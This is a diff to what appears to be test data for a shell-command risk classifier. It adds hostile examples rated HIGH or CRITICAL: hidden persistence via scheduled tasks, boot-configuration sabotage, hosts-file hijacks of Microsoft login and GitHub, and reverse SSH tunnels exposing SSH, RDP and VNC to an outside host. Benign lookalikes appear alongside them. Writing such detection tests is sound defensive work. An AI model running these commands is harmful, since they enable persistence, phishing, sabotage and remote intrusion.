@@ -339,6 +339,34 @@ EVERYDAY = [
 ]
 
 
+# -- scheduling, boot entries, name hijacks, tunnels -------------------------------------------
+
+SYSTEM = [
+    ("schtasks /delete /tn * /f", HIGH),
+    (r"schtasks /create /tn Sync /tr C:\Scripts\s.bat /sc onlogon", HIGH),
+    (r"schtasks /create /tn Sync /tr C:\Scripts\s.bat /sc daily /ru SYSTEM", HIGH),
+    (r"schtasks /create /tn Sync /tr C:\Users\Public\s.exe /sc daily", HIGH),
+    (r'schtasks /create /tn U /tr "powershell -w hidden -f C:\s.ps1" /sc weekly', HIGH),
+    ("bcdedit /set {current} safeboot minimal", HIGH),
+    ("bcdedit /delete {default} /f", HIGH),
+    ("echo '198.51.100.4 login.microsoftonline.com' | sudo tee -a /etc/hosts", HIGH),
+    ("echo '198.51.100.4 github.com' >> /etc/hosts", HIGH),
+    ("ssh -N -R 0.0.0.0:2222:localhost:22 t@198.51.100.4", CRITICAL),
+    ("ssh -g -R 3390:127.0.0.1:3389 t@198.51.100.4", CRITICAL),
+    ("autossh -M 0 -N -R '*:5901:localhost:5900' t@x.example", CRITICAL),
+]
+SYSTEM_BENIGN = [
+    (r'schtasks /create /tn "Nightly Backup" /tr "C:\Scripts\b.bat" /sc daily /st 02:00', MODERATE),
+    (r"schtasks /create /tn Report /tr D:\tools\report.exe /sc weekly /d MON", MODERATE),
+    ('schtasks /delete /tn "Old Backup" /f', MODERATE),
+    ("schtasks /query /fo LIST /v", SAFE),
+    ("bcdedit /enum {current}", SAFE),
+    ("bcdedit /enum {bootmgr}", SAFE),
+    ("echo '127.0.0.1 myapp.local' | sudo tee -a /etc/hosts", MODERATE),
+    ("ssh -N -R 8080:localhost:3000 me@x.example", MODERATE),
+]
+
+
 DANGEROUS = [
     *READ_MODES_DANGEROUS,
     *PERSISTENCE,
@@ -347,6 +375,7 @@ DANGEROUS = [
     *INSTALL,
     *CONTAINERS,
     *EVERYDAY,
+    *SYSTEM,
 ]
 BENIGN = [
     *READ_MODES_BENIGN,
@@ -356,6 +385,7 @@ BENIGN = [
     *INSTALL_BENIGN,
     *CONTAINERS_BENIGN,
     *EVERYDAY_BENIGN,
+    *SYSTEM_BENIGN,
 ]
 
 
